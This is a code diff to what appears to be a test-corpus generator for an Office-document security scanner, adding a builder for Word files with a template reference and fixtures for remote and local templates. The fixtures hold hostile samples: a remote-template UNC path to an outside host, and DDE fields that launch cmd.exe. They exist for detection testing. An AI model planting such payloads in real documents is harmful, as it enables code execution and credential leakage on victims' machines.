@@ -663,6 +663,25 @@ export function powerPointRunProgram(): Buffer {
   return powerPointOf([pptRecord(0xf, 0, 0x0ff2, pptRecord(0, 0, 0x0ff3, atom))]);
 }
 
+/**
+ * A Word 97-2003 document whose FIB ([MS-DOC] 2.5.1: FibBase, csw 14, cslw 22, cbRgFcLcb 93 for
+ * Word 97) points fcSttbfAssoc into "1Table" at an SttbfAssoc whose ibstAssocDot is `template`.
+ */
+export function wordWithTemplate(template: string): Buffer {
+  const document = Buffer.alloc(1536);
+  document.writeUInt16LE(0xa5ec, 0);
+  document.writeUInt16LE(0x0200, 0x0a); // fWhichTblStm: "1Table"
+  document.writeUInt16LE(14, 32);
+  document.writeUInt16LE(22, 62);
+  document.writeUInt16LE(93, 152);
+  const strings = Array.from({ length: 18 }, (_, index) => (index === 1 ? template : ''));
+  const sttb = Buffer.concat([Buffer.from([0xff, 0xff, strings.length, 0, 0, 0]), ...strings.map((text) => Buffer.concat([Buffer.from([text.length & 0xff, text.length >> 8]), Buffer.from(text, 'utf16le')]))]);
+  const table = Buffer.concat([Buffer.alloc(64), sttb]);
+  document.writeUInt32LE(64, 154 + 32 * 8);
+  document.writeUInt32LE(sttb.length, 154 + 32 * 8 + 4);
+  return compoundFile({ '/WordDocument': document, '/1Table': table });
+}
+
 /** A Word 97-2003 document whose text holds a field (0x13 instruction 0x14 result 0x15), 8-bit text as Word writes for Latin text. */
 export function wordWithField(instruction: string): Buffer {
   const text = Buffer.from(`Service report\r\u0013 ${instruction} \u0014result\u0015\r`, 'latin1');
@@ -855,6 +874,8 @@ export async function writeCorpus(dir: string): Promise<CorpusEntry[]> {
   await add('office/run-program.ppt', powerPointRunProgram(), { type: 'ppt', findings: ['OFFICE_DANGEROUS_LINK'] });
   await add('office/dde.doc', wordWithField('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'), { type: 'doc', findings: ['OFFICE_DDE'] });
   await add('office/page-field.doc', wordWithField('PAGE'), { type: 'doc', findings: [] });
+  await add('office/remote-template.doc', wordWithTemplate('\\\\203.0.113.9\\share\\Normal.dotm'), { type: 'doc', findings: ['OFFICE_REMOTE_TEMPLATE'] });
+  await add('office/local-template.doc', wordWithTemplate('C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm'), { type: 'doc', findings: [] });
   await add('office/dde-link.xls', compoundFile({ '/Workbook': biffGlobals([[0x01ae, supBook(0, 'cmd\u0003/c calc')]]) }), { type: 'xls', findings: ['OFFICE_DDE'] });
   await add('office/external-workbook.xls', compoundFile({ '/Workbook': biffGlobals([[0x01ae, supBook(1, '\u0001\\\\server\\share\\budget.xls')]]) }), { type: 'xls', findings: ['OFFICE_EXTERNAL_RELATIONSHIP'] });
   await add('office/self-reference.xls', compoundFile({ '/Workbook': biffGlobals([[0x01ae, Buffer.from('01000104', 'hex')]]) }), { type: 'xls', findings: [] });
